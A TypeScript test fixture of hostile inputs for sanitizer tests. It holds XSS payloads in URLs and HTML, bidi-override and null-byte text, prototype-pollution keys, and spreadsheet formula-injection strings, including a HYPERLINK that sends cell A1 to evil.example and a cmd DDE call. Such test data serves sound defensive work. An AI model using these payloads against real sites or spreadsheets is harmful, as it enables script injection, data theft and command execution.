/** The values of the scenario `hostile`: attacks through a text, an address, a key or a number. */

/** Sets a flag that tests check. */
const RUN = 'globalThis.__hostile=true'

/** The only host among these addresses that a browser may load from, and only pictures. */
const PICTURES = 'https://pictures.hostile.example'

export const ADDRESSES = [
  `${PICTURES}/1.jpg`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/"onerror="${RUN}`,
  `vbscript:${RUN}`,
  ` jAvAsCrIpT:${RUN}`,
  `${PICTURES}/"onerror="${RUN}`,
  `java\nscript:${RUN}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  '\\\\evil.example\\share',
  '/\\evil.example/',
] as const

export const HTML = `<p onclick="${RUN}" style="position:fixed;inset:0">Soft <b>cotton</b><script>${RUN}</script>
<img src="x" onerror="${RUN}"><svg onload="${RUN}"><a xlink:href="javascript:${RUN}">x</a></svg>
<iframe srcdoc="<script>${RUN}</script>"></iframe><a href="javascript:${RUN}">link</a><form action="//evil.example"><input name="key" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Buy</button></form>
<math><mtext><table><mglyph><style><img src onerror="${RUN}"></style></table>
<style>*{background:url(//evil.example/css)}</style><link rel="stylesheet" href="//evil.example/css"><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">
<details open ontoggle="${RUN}"><summary>More</summary></details><dialog open>Your session ended</dialog><video autoplay src="//evil.example/v" onloadstart="${RUN}"></video><object data="//evil.example/o"></object><embed src="//evil.example/e">
<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript><a href="https://evil.example/" target="_top" style="inset:0">more</a></p>`

/** Markup, direction marks, a null character, a template, a family emoji and half a surrogate pair. */
export const TEXT = `<img src=x onerror="${RUN}"><script>${RUN}</script>\u202E\u2066fdp.exe\u0000{{7*7}}👨‍👩‍👧‍👦\uD800`

/** Texts that a spreadsheet would read as formulas. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
] as const

/** Names of properties that every object inherits. */
export const INHERITED = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'] as const

/** 100,000 characters without a line-break opportunity. */
export const ENDLESS = 'Überlang'.repeat(12_500)

const RAW = '\u0007raw:'

/** A number that is valid JSON but exceeds a double: a text until `writeRawNumbers` replaces it. */
export const rawNumber = (digits: string): string => RAW + digits

const RAW_IN_JSON = new RegExp(
  `"${JSON.stringify(RAW).slice(1, -1).replace('\\', '\\\\')}([^"]+)"`,
  'g',
)

export const writeRawNumbers = (json: string): string => json.replace(RAW_IN_JSON, '$1')
